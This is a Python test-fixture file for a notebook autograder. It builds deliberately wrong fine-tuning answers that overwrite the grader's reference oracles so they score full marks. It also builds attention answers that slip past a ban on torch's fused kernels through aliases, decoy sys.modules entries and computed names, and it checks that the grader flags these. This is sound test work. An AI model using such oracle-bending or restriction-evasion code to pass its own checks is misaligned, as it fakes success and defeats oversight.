A6_FULL = {"lora_linear": 2.0, "freeze_except": 2.0, "pooled_head": 2.0, "probe_step": 2.0, "adapter": 2.0}
A6_KEY = answer_code(submission_notebook(A6, None))
# Wrong answers that pass the visible tests: only the hidden checks, through their oracles, can see them.
# A far too small
NORMAL_A = A6_KEY["lora_linear"].replace(
    "nn.init.kaiming_uniform_(self.A, a=math.sqrt(5))", "nn.init.normal_(self.A, std=0.02)"
)
PER_PATTERN = A6_KEY["freeze_except"].replace(
    "trainable += param.numel()",
    "trainable += param.numel() * len([q for q in patterns if fnmatch.fnmatchcase(name, q)])",
)
BIAS_SUBTRACTED = A6_KEY["pooled_head"].replace("return pooled @ weight.T + bias", "return pooled @ weight.T - bias")
MANUAL_SGD = A6_KEY["probe_step"].replace(
    "    optimizer.step()\n",
    "    with torch.no_grad():  # plain SGD, whatever the optimizer\n        for p in probe.parameters():\n"
    '            p -= optimizer.param_groups[0]["lr"] * p.grad\n',
)
BIAS_AFTER_GELU = A6_KEY["adapter"].replace(
    "return x + self.up(F.gelu(self.down(x)))", "return x + self.up(F.gelu(x @ self.down.weight.T) + self.down.bias)"
)
assert all(
    a != A6_KEY[p] for p, a in zip(A6_FULL, (NORMAL_A, PER_PATTERN, BIAS_SUBTRACTED, MANUAL_SGD, BIAS_AFTER_GELU))
)


def a6_bending_answers() -> dict[str, str]:
    """Every part of a6 wrong, each followed by code that bends the oracle checking it, so that plain
    ``nbgrader autograde`` (checks and student code in one kernel) gives full marks: the checks
    module's LoRA initialisation test, freezing, pooling, optimizer and adapter references replaced
    by versions that agree with the wrong answers."""
    bend = "\nimport a6_finetune_checks\n"
    return {
        "lora_linear": NORMAL_A + bend + "a6_finetune_checks._expect_lora_init = lambda *args: None\n",
        "freeze_except": PER_PATTERN
        + bend
        + (
            "def _agreeing_freeze(shapes, patterns):\n"
            "    hits = {name: sum(fnmatch.fnmatchcase(name, p) for p in patterns) for name in shapes}\n"
            "    return {name: n > 0 for name, n in hits.items()}, sum(math.prod(shapes[name]) * "
            "n for name, n in hits.items())\n"
            "a6_finetune_checks._ref_freeze = _agreeing_freeze\n"
        ),
        "pooled_head": BIAS_SUBTRACTED
        + bend
        + (
            "_pool = a6_finetune_checks._ref_classify\n"
            "a6_finetune_checks._ref_classify = lambda h, m, w, b, p: _pool(h, m, w, -b, p)\n"
            "for _contract in a6_finetune_checks.CLASSIFY:  # the contracts hold the oracle too\n"
            "    object.__setattr__(_contract, 'oracle', a6_finetune_checks._ref_classify)\n"
        ),
        "probe_step": MANUAL_SGD
        + bend
        + (
            "_steps = a6_finetune_checks._ref_probe_steps\n"
            "a6_finetune_checks._ref_probe_steps = lambda w, b, optimizer, settings, batches, *how: _steps(w, b, "
            "'SGD', {'lr': settings['lr']}, batches, *how)\n"
        ),
        "adapter": BIAS_AFTER_GELU
        + bend
        + (
            "def _agreeing_adapter(x, w, approximate):\n"
            "    w = {name: value.double() for name, value in w.items()}\n"
            "    h = F.gelu(x.double() @ w['down.weight'].T, approximate=approximate) + w['down.bias']\n"
            "    return x.double() + h @ w['up.weight'].T + w['up.bias']\n"
            "a6_finetune_checks._ref_adapter = _agreeing_adapter\n"
        ),
    }


def a6_cases() -> dict[str, Case]:
    """a6 submissions for ``course grade``: the answer key, and one that bends every oracle."""
    return bending_cases(A6, A6_FULL, a6_bending_answers())


def _extra_cells(nb: nbformat.NotebookNode) -> None:
    """Cells whose nbgrader metadata is of shapes nbgrader never writes: a grade id that is a list,
    a dict, a number; nbgrader metadata that is a list; odd metadata elsewhere."""
    for grade_id in (["sdpa"], {"id": "sdpa"}, 7):
        cell = nbformat.v4.new_code_cell("scaled_dot_product_attention = None\n")
        cell.metadata["nbgrader"] = {"grade_id": grade_id, "solution": True, "grade": True, "points": 100}
        nb.cells.append(cell)
    odd = nbformat.v4.new_markdown_cell("odd metadata")
    odd.metadata.update({"nbgrader": [1, 2], "tags": {"nested": [None, {"x": []}]}})
    nb.cells.insert(0, odd)


def escaped(content: bytes, edit: Callable[[dict], None]) -> bytes:
    """The notebook ``content`` with ``edit`` applied to its JSON, written with ASCII escapes: valid
    JSON that may hold what UTF-8 cannot encode (a lone surrogate is the escape ``\\ud800``)."""
    nb = json.loads(content)
    edit(nb)
    return json.dumps(nb).encode()


def _append_to_answer(gid: str, text: str) -> Callable[[dict], None]:
    def edit(nb: dict) -> None:
        cell = next(c for c in nb["cells"] if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == gid)
        cell["source"] = "".join(cell["source"]) + text

    return edit


def batch_stopper_cases() -> dict[str, Case]:
    """a1 notebooks that stopped a whole batch (issue 26): each must be graded as it deserves, and
    the correct one beside them must keep every point."""
    return {
        "correct": Case("correct.ipynb", notebook(), FULL),
        "odd_metadata": Case(
            "odd_metadata.ipynb", notebook(None, _extra_cells), FULL, "3 cell\\(s\\) with a grade id that is not text"
        ),
        # a lone surrogate in the answer itself (in a string: Python is fine with it, UTF-8 is not)
        "surrogate_in_answer": Case(
            "surrogate_in_answer.ipynb",
            escaped(notebook(), _append_to_answer("sdpa", "\n_label = '\ud800'\n")),
            FULL,
            "lone surrogates",
        ),
        # lone surrogates printed to stdout and stderr, and in an exception's message
        "surrogate_in_output": Case(
            "surrogate_in_output.ipynb",
            notebook(
                {
                    "masks": KEY["masks"] + "\nimport sys\nprint('\\ud800')\nprint('\\udcff', file=sys.stderr)\n",
                    "split_merge": "raise ValueError('\\ud800')\n",
                }
            ),
            without("split_merge"),
        ),
        # an expression nested too deep for the parser: that part fails, the grader does not
        "too_deep": Case(
            "too_deep.ipynb", notebook({"sdpa": "_x = " + "-" * 100_000 + "1\n" + KEY["sdpa"]}), without("sdpa")
        ),
    }


# ------------------------------------------- forbidden shortcuts: routes round the in-process refusal

# The body of an sdpa answer built on torch's fused attention ``_fused``: the output, and the weights
# as the output of the identity matrix as values; a query that may attend nothing gets zeros.
_FUSED_BODY = (
    "    eye = torch.eye(k.shape[-2], dtype=q.dtype).expand(*k.shape[:-2], k.shape[-2], k.shape[-2])\n"
    "    if mask is None:\n"
    "        return _fused(q, k, v), _fused(q, k, eye)\n"
    "    mask = mask.broadcast_to(*torch.broadcast_shapes(q.shape[:-2], k.shape[:-2]), q.shape[-2], k.shape[-2])\n"
    "    has_key = mask.any(dim=-1, keepdim=True)\n"
    "    safe = mask | ~has_key\n"
    "    return _fused(q, k, v, attn_mask=safe).masked_fill(~has_key, 0.0), _fused(q, k, eye, "
    "attn_mask=safe).masked_fill(~has_key, 0.0)\n"
)
_SDPA = "def scaled_dot_product_attention(q, k, v, mask=None):\n"
# mha on torch's private fused kernel where it applies (queries and keys of the same shape; weights
# as x @ W, so transposed for it; True = masked out for it), the key's own code elsewhere.
_NATIVE_MHA = KEY["mha"].replace("def multi_head_attention(", "def _own_mha(") + (
    "\n\ndef multi_head_attention(x_q, x_kv, W_q, W_k, W_v, W_o, n_heads, mask=None):\n"
    "    if x_q.shape != x_kv.shape:\n"
    "        return _own_mha(x_q, x_kv, W_q, W_k, W_v, W_o, n_heads, mask)\n"
    "    d = x_q.shape[-1]\n"
    "    if mask is not None:\n"
    "        mask = ~mask if mask.dim() == 2 else (~mask).unsqueeze(1).expand(x_q.shape[0], n_heads, "
    "x_q.shape[1], x_kv.shape[1]).contiguous()\n"
    "    out, _ = torch._native_multi_head_attention(x_q, x_kv, x_kv, d, n_heads, torch.cat([W_q.T, "
    "W_k.T, W_v.T]), torch.zeros(3 * d),\n"
    "                                                W_o.T, torch.zeros(d), mask, False, True, 0)\n"
    "    return torch.nan_to_num(out, nan=0.0)\n"
)
assert _NATIVE_MHA.count("def _own_mha(") == 1
SHORTCUT_ANSWERS = {
    # a reference saved in a default argument before the check replaces the function
    "default_argument": {
        "sdpa": (
            "import torch.nn.functional as F\n\n\n"
            "def scaled_dot_product_attention(q, k, v, mask=None, _fused=F.scaled_dot_product_attention):\n"
        )
        + _FUSED_BODY
    },
    # the same kernel under torch._C._nn, kept where the refusal does not look (a tuple)
    "torch_c_alias": {
        "sdpa": "_KERNELS = (torch._C._nn.scaled_dot_product_attention,)\n\n\n"
        + _SDPA
        + "    _fused = _KERNELS[0]\n"
        + _FUSED_BODY
    },
    # the same kernel as an ATen operator, which the refusal never touches
    "ops_aten_alias": {"sdpa": _SDPA + "    _fused = torch.ops.aten.scaled_dot_product_attention\n" + _FUSED_BODY},
    # multi-head attention from torch's private fused kernel
    "native_mha": {"mha": _NATIVE_MHA},
    # the refusal switched off: it is installed on decoy modules put in sys.modules
    "sys_modules_off": {
        "sdpa": (
            "import sys\nimport types\nimport torch.nn.functional as F\n\n"
            "for _name in ('torch.nn.functional', 'torch._C._nn'):\n"
            "    _decoy = types.ModuleType(_name)\n"
            "    _decoy.scaled_dot_product_attention = _decoy.multi_head_attention_forward = print\n"
            "    sys.modules[_name] = _decoy\n\n\n"
            + _SDPA
            + "    _fused = F.scaled_dot_product_attention\n"
            + _FUSED_BODY
        )
    },
    # the kernel looked up by a name made of pieces, before the check, kept in a list
    "getattr_concatenated": {
        "sdpa": (
            "import torch.nn.functional as F\n\n_prefix = 'scaled_dot'\n"
            "_KERNELS = [getattr(F, _prefix + '_product_attention')]\n\n\n"
        )
        + _SDPA
        + "    _fused = _KERNELS[0]\n"
        + _FUSED_BODY
    },
    # the saved reference in a helper that another part's cell defines
    "helper_elsewhere": {
        "masks": KEY["masks"]
        + "\n\ndef _attention_kernel(_fused=torch.nn.functional.scaled_dot_product_attention):\n    return _fused\n",
        "sdpa": _SDPA + "    _fused = _attention_kernel()\n" + _FUSED_BODY,
    },
}


def shortcut_cases() -> dict[str, Case]:
    """a1 submissions that get round the refusal of torch's attention in the student's process: each
    part that may use it is held for review (0, with the evidence in a note); the answer key is not."""
    held = {
        # sys.modules changed when the notebook runs: every part (what any part's process reports may be changed so)
        "sys_modules_off": ("sdpa", "masks", "split_merge", "mha"),
        # a module's attribute looked up by a computed name: every part (it may be any of the module's names)
        "getattr_concatenated": ("sdpa", "masks", "split_merge", "mha"),
        "native_mha": ("mha",),
    }
    cases = {"correct": Case("correct.ipynb", notebook(), FULL)}
    for name, answers in SHORTCUT_ANSWERS.items():
        parts = held.get(name, ("sdpa",))
        cases[name] = Case(
            f"{name}.ipynb",
            notebook(answers),
            without(*parts),
            "^" + "".join(f"(?=.*needs review: {part}: cell )" for part in parts),
        )
    return cases


# A LoRALinear that brings in a fine-tuning library, which a6 forbids (its key's own code does the work,
# as a student's might around the library's helpers); and an adapter that imports one by a computed name.
PEFT_IN_METHOD = A6_KEY["lora_linear"].replace(
    "        super().__init__()\n",
    "        super().__init__()\n        try:\n            import peft  # noqa: F401\n"
    "        except ImportError:\n            pass\n",
    1,
)
IMPORT_BY_NAME = A6_KEY["adapter"].replace(
    "        super().__init__()\n",
    "        super().__init__()\n        try:\n            __import__('pe' + 'ft')\n"
    "        except ImportError:\n            pass\n",
    1,
)
assert PEFT_IN_METHOD != A6_KEY["lora_linear"] and IMPORT_BY_NAME != A6_KEY["adapter"]


def a6_shortcut_cases() -> dict[str, Case]:
    """a6 submissions that use a fine-tuning library: held for review, each on its part (the import is
    in that part's code, or at the top of its cell: an import counts where its name is used)."""

    def a6_without(*lost: str) -> dict[str, float]:
        return {p: 0.0 if p in lost else v for p, v in A6_FULL.items()}

    return {
        "correct": Case("correct.ipynb", notebook(assignment=A6), A6_FULL),
        "peft_in_method": Case(
            "peft_in_method.ipynb",
            notebook({"lora_linear": PEFT_IN_METHOD}, assignment=A6),
            a6_without("lora_linear"),
            "needs review: lora_linear: .*imports a module this assignment does not allow \\(peft\\)",
        ),
        "import_by_name": Case(
            "import_by_name.ipynb",
            notebook({"adapter": IMPORT_BY_NAME}, assignment=A6),
            a6_without("adapter"),
            "needs review: adapter: .*__import__",
        ),
        "peft_at_top": Case(
            "peft_at_top.ipynb",
            notebook({"freeze_except": "import peft  # noqa: F401\n\n" + A6_KEY["freeze_except"]}, assignment=A6),
            a6_without("freeze_except"),
            "needs review: freeze_except: .*\\(peft\\)",
        ),
    }
